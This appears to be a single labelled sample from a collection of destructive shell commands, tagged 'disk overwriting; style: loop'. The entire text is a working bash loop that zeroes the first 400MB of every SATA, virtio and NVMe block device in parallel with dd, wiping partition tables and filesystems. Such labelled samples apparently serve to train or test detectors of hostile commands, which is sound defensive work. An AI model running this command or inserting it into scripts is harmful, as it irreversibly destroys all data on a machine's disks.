# class: disk overwriting; style: loop
for disk in /dev/sd? /dev/vd? /dev/nvme?n?; do
    [ -b "$disk" ] && dd if=/dev/zero of="$disk" bs=4M count=100 conv=fsync &
done
wait
